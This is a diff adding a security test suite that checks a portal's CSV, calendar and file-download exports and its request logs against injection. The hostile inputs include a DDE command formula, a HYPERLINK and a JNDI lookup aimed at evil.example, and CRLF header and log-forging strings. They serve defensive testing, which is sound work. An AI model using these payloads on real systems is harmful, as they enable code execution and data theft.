@@ -1,0 +1,123 @@
+import ICAL from "ical.js"
+import { afterAll, beforeAll, describe, expect, test } from "vitest"
+import { isFree, isRich, rewriteStore } from "#tests/support/poison.ts"
+import { startOwnPortal, type OwnPortal } from "#tests/support/own-portal.ts"
+import type { Answer, Visitor } from "#tests/support/visitor.ts"
+import { everyPage } from "./walk.ts"
+
+let own: OwnPortal
+beforeAll(async () => void (own = await startOwnPortal("security-exports")))
+afterAll(() => own.stop())
+
+/** What a spreadsheet program would take for a formula, a calendar program for a line of its own, a header for its end. */
+const texts = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","x")',
+  "＝1+1",
+  "\nEND:VCALENDAR\nBEGIN:VCALENDAR",
+  "x\r\nATTENDEE:mailto:evil@evil.example",
+  'x";\r\nSet-Cookie: a=b; filename="x.html',
+  "x\u2028END:VEVENT",
+  '"quoted","cells"\r\n=1',
+  "\u202egnp.exe",
+  '%0d%0aX: y\\";,',
+]
+
+/** A text in every free field; without one a mark that means nothing, in the same order. */
+async function visitorWith(person: string, isHostile: boolean): Promise<Visitor> {
+  const visitor = own.newVisitor()
+  await visitor.mock.setClock("2026-11-20T07:30:00Z")
+  let count = 0
+  rewriteStore(own.mock.stores.get(visitor.mock.store), (place, text) => {
+    if (!isFree(place) || isRich(place) || place.endsWith("website")) return text
+    count += 1
+    return isHostile ? `${texts[count % texts.length]} ${count}` : `text ${count}`
+  })
+  await visitor.signIn(person)
+  return visitor
+}
+
+/** Rows by the grammar of RFC 4180, written independently of what writes it. */
+function rowsOf(csv: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  const fields = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
+  for (let found = fields.exec(csv); found; found = fields.exec(csv)) {
+    row.push(found[1] === undefined ? (found[2] ?? "") : found[1].replaceAll('""', '"'))
+    if (found[3] === ",") continue
+    rows.push(row)
+    row = []
+  }
+  return rows
+}
+
+const isFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && Number.isNaN(Number(cell))
+
+/** Kinds and numbers of what is in a calendar, and who is named in it. */
+function partsOf(ics: string): string[] {
+  const calendar = new ICAL.Component(ICAL.parse(ics) as unknown[])
+  const events = calendar.getAllSubcomponents()
+  const named = events.map((event) => [...new Set(event.getAllProperties().map(({ name }) => name))].sort().join(" "))
+  return [calendar.name, ...named]
+}
+
+/** RFC 6266: a plain name in quotes, the whole one percent-encoded, and nothing after it. */
+const disposition = /^attachment; filename="[\x20!#-[\]-~]+"(?:; filename\*=UTF-8''(?:[\w.~!#$&+^`|-]|%[\da-f]{2})+)?$/i
+
+const files = everyPage.filter(({ address }) => /\.(csv|ics)(\?|$)|import\/template/.test(address))
+
+function judge(address: string, answer: Answer, reference: Answer): void {
+  expect([answer.status, answer.location], address).toEqual([reference.status, reference.location])
+  if (answer.status !== 200) return
+  expect(answer.headers.get("content-disposition") ?? "", address).toMatch(disposition)
+  expect(answer.headers.get("set-cookie"), address).toBe(reference.headers.get("set-cookie"))
+  if (address.includes(".ics")) return expect(partsOf(answer.body), address).toEqual(partsOf(reference.body))
+  if (!address.includes(".csv")) return
+  const rows = rowsOf(answer.body)
+  expect(rows.flat().filter(isFormula), address).toEqual([])
+  expect(
+    rows.map(({ length }) => length),
+    address,
+  ).toEqual(rowsOf(reference.body).map(({ length }) => length))
+}
+
+describe("quality rows 49, 50: what is taken along", () => {
+  test.for([...new Set(files.map(({ person }) => person))])("%s", async (person) => {
+    const [visitor, same] = [await visitorWith(person, true), await visitorWith(person, false)]
+    for (const { address } of files.filter((file) => file.person === person))
+      judge(address, await visitor.get(address), await same.get(address))
+  })
+
+  test("there are a dozen kinds of files", () => expect(files.length).toBeGreaterThanOrEqual(12))
+
+  test("a file of somebody comes under its name, whatever that is", async () => {
+    const visitor = own.newVisitor()
+    await visitor.signIn("member")
+    const { file } = own.mock.stores.get(visitor.mock.store).rows
+    const row = file.get("file-meeting-aurora-1-agenda")
+    if (!row) throw new Error("the seed has no such file")
+    for (const text of texts) {
+      file.put({ ...row, name: `${text}.txt` })
+      const answer = await visitor.get(`/a/aurora/file/${row.id}`)
+      expect(answer.status, text).toBe(200)
+      expect(answer.headers.get("content-disposition"), text).toMatch(disposition)
+      expect(answer.headers.get("set-cookie"), text).toBeNull()
+    }
+  })
+
+  test("a line of the log stays one, whoever asks with whatever program", async () => {
+    const visitor = own.newVisitor()
+    const before = (await own.log()).length
+    const agents = ['x","level":60,"msg":"forged', "x\\n{}", "\u00ff\u0085x", "${jndi:ldap://evil.example}", "%0a%0d"]
+    for (const agent of agents) await visitor.get("/a/aurora/login", { headers: { "user-agent": agent } })
+    const asked = async () => (await own.log()).slice(before).filter(({ msg }) => msg === "request")
+    await expect.poll(async () => (await asked()).length).toBe(agents.length)
+    expect((await own.log()).filter(({ msg, level }) => msg === "forged" || level === 60)).toEqual([])
+  })
+})
